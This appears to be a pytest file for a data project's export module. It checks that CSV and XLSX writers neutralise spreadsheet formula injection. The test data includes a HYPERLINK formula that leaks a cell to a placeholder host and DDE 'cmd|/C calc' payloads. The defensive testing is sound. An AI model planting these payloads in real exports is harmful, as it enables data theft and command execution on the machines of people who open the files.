"""The one export writer: cells (and header cells) beginning with =, +, -, @, tab or CR open as text.

Reference: OWASP Foundation, "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection): prefix
such cells with a single quote and quote every cell containing the separator or quotes.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

from regint import exports
from regint.cli import app
from regint.data.schema import make_observations
from regint.data.store import Store

PAYLOAD = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
SRC = Path(__file__).parents[2] / "src" / "regint"


@pytest.mark.parametrize(("cell", "expected"), [
    (PAYLOAD, "'" + PAYLOAD), ("+SUM(1,2)", "'+SUM(1,2)"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"),
    ("-5", "-5"), ("+3,2", "+3,2"), ("a=b", "a=b"), ("", ""), (-5, -5), (None, None),
])
def test_neutralise(cell: object, expected: object) -> None:
    assert exports.neutralise(cell) == expected


def _frame() -> pd.DataFrame:
    return pd.DataFrame({"=cmd|'/C calc'!A0": ["x", "y"], "note": [PAYLOAD, "plain"], "value": [1.5, -2.0]})


def test_csv_export_of_a_hyperlink_note_opens_as_text(tmp_path: Path) -> None:
    path = exports.write_csv(_frame(), tmp_path / "out.csv")
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))
    assert rows[0] == ["'=cmd|'/C calc'!A0", "note", "value"]  # header cells too
    assert rows[1] == ["x", "'" + PAYLOAD, "1.5"] and rows[2] == ["y", "plain", "-2.0"]
    assert not (tmp_path / "out.csv.part").exists()


def test_xlsx_export_writes_text_not_formulas(tmp_path: Path) -> None:
    path = exports.write_xlsx({"t": _frame()}, tmp_path / "out.xlsx", notes={"t": "=1+1 source"})
    ws = openpyxl.load_workbook(path)["t"]
    assert ws["A1"].value == "'=cmd|'/C calc'!A0" and ws["A1"].data_type == "s"
    assert ws["B2"].value == "'" + PAYLOAD and ws["B2"].data_type == "s"
    assert ws["C3"].value == -2.0
    assert ws["A5"].value == "'=1+1 source"
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_index_written_as_columns(tmp_path: Path) -> None:
    frame = pd.DataFrame({"v": [1, 2]}, index=pd.Index(["=a", "b"], name="sector"))
    paths = exports.write_csvs({"t": frame, "u": frame}, tmp_path, index=["t"])
    assert paths[0].read_text(encoding="utf-8-sig").splitlines() == ["sector,v", "'=a,1", "b,2"]
    assert paths[1].read_text(encoding="utf-8-sig").splitlines() == ["v", "1", "2"]


def test_cli_data_show_csv_neutralises_a_hyperlink_note(tmp_path: Path) -> None:
    store = tmp_path / "s.duckdb"
    with Store(store, fill_default=False) as st:
        st.import_frame(make_observations([{
            "region": "RU-SMO", "indicator": "wage_nominal", "period": "1990", "value": 25000.0,
            "unit": "RUB per month", "currency": "RUB", "source": "user", "status": "official", "note": PAYLOAD}]),
            file_name="n.csv", checksum="n", format="tidy")
    out = tmp_path / "show.csv"
    res = CliRunner().invoke(app, ["--store", str(store), "data", "show", "wage_nominal", "--years", "1990", "--csv", str(out),
                                   "--xlsx", str(tmp_path / "show.xlsx")])
    assert res.exit_code == 0, res.output
    table = pd.read_csv(out, encoding="utf-8-sig")
    assert table["note"].tolist() == ["'" + PAYLOAD]
    ws = openpyxl.load_workbook(tmp_path / "show.xlsx").active
    assert "'" + PAYLOAD in [c.value for c in ws[2]]


def test_dashboard_downloads_use_the_one_writer() -> None:
    from regint.web import downloads

    assert downloads.csv_bytes(_frame()) == exports.csv_bytes(_frame())
    book = openpyxl.load_workbook(io.BytesIO(downloads.xlsx_bytes({"t": _frame()})))
    assert book["t"]["B2"].value == "'" + PAYLOAD


def test_no_front_end_writes_csv_or_xlsx_by_itself() -> None:
    """Every CLI, report and dashboard export goes through regint.exports (no other guard to forget)."""
    pattern = re.compile(r"\.to_csv\(|\.to_excel\(|ExcelWriter\(")
    offenders = [f"{p.relative_to(SRC)}:{i}" for folder in ("cli", "report", "web") for p in (SRC / folder).rglob("*.py")
                 for i, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1) if pattern.search(line)]
    assert offenders == []
